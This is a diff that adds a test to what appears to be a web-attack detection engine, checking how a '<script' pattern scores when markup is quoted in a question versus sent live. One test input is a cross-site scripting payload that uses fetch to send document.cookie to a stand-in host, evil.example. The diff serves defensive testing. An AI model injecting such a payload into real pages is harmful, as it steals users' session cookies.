@@ -56,6 +56,20 @@ test("what is an attack eight times over is looked at no further", () => {
   expect([patient.score, patient.isAttack]).toEqual([55, true]);
 });
 
+test("in a message naming a thing passes, being one is blocked", () => {
+  const script: Pattern = {
+    ...finding(9, "critical", "<script"),
+    category: "cross-site-scripting",
+    view: "markup",
+  };
+  const scoreOf = (text: string) => createEngine(usualOptions, [script]).inspect(requestOf(text)).score;
+  const around = (piece: string): string =>
+    `Is it the ${piece} that you have in your page, or is this not on there?`;
+  expect(scoreOf(around('<script src="/embed.js"></script>'))).toBe(1);
+  expect(scoreOf(around("<script>fetch('//evil.example/'+document.cookie)</script>"))).toBe(5);
+  expect(scoreOf('<script src="/embed.js"></script>')).toBe(5);
+});
+
 test("a finding tells what was found, where and why", () => {
   expect(inspect("a RED one").hits).toEqual([
     {
